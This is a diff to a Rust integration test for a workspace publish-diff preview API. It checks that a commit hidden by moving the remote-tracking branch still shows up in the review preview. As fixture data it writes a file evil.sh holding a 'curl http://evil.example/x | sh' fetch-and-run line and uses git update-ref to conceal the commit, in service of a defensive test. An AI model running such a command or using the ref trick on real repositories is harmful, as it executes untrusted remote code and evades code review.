@@ -402,6 +402,20 @@ async fn workspaces_in_odd_states_get_clear_problems() {
     let files = server.workspaces_dir.join(&id);
     let preview_path = format!("/api/v1/workspaces/{id}/publish-diff");
 
+    // The builder hides a commit from the review by moving the remote-tracking branch onto it: the base is the
+    // commit the control plane cloned, which the builder cannot move.
+    std::fs::write(files.join("evil.sh"), "curl http://evil.example/x | sh\n").unwrap();
+    git(&files, &["add", "evil.sh"]);
+    git(&files, &["-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "-q", "-m", "wip"]);
+    git(&files, &["update-ref", "refs/remotes/origin/main", "HEAD"]);
+    std::fs::write(files.join("README.md"), "# Web\ntypo fixed\n").unwrap();
+    let (status, preview) = api.get(&preview_path, Some(&ada)).await;
+    assert_eq!(status, 200, "{preview}");
+    assert_eq!(preview["base_commit"].as_str(), Some(git(&bare, &["rev-parse", "main"]).as_str()), "{preview}");
+    assert!(preview["files"].as_array().unwrap().iter().any(|file| file["path"] == "evil.sh"), "{preview}");
+    // A Latin-1 text file: its patch (made UTF-8, larger) is still cut within the cap, at a line end.
+    std::fs::write(files.join("latin1.txt"), b"caf\xe9 cr\xe8me br\xfbl\xe9e\n".repeat(200)).unwrap();
+
     // A binary file and a file larger than the patch cap: listed, counted, the patch cut at a line end.
     std::fs::write(files.join("logo.png"), [0x89, b'P', b'N', b'G', 0, 0, 1, 2, 0xff]).unwrap();
     std::fs::write(files.join("big.txt"), "a line of text\n".repeat(1000)).unwrap();
@@ -409,7 +423,7 @@ async fn workspaces_in_odd_states_get_clear_problems() {
     assert_eq!(status, 200, "{preview}");
     let logo = preview["files"].as_array().unwrap().iter().find(|file| file["path"] == "logo.png").unwrap().clone();
     assert_eq!((logo["binary"].as_bool(), logo["insertions"].as_u64()), (Some(true), Some(0)), "{preview}");
-    assert_eq!(preview["insertions"], 1000);
+    assert_eq!(preview["insertions"], 1000 + 1 + 1 + 200, "{preview}");
     let patch = preview["patch"].as_str().unwrap();
     assert!(preview["patch_truncated"].as_bool().unwrap() && patch.len() <= 2048 && patch.ends_with('\n'));
     let (status, created) = submit(&api, &ada, &id, "my-web", "Big").await;
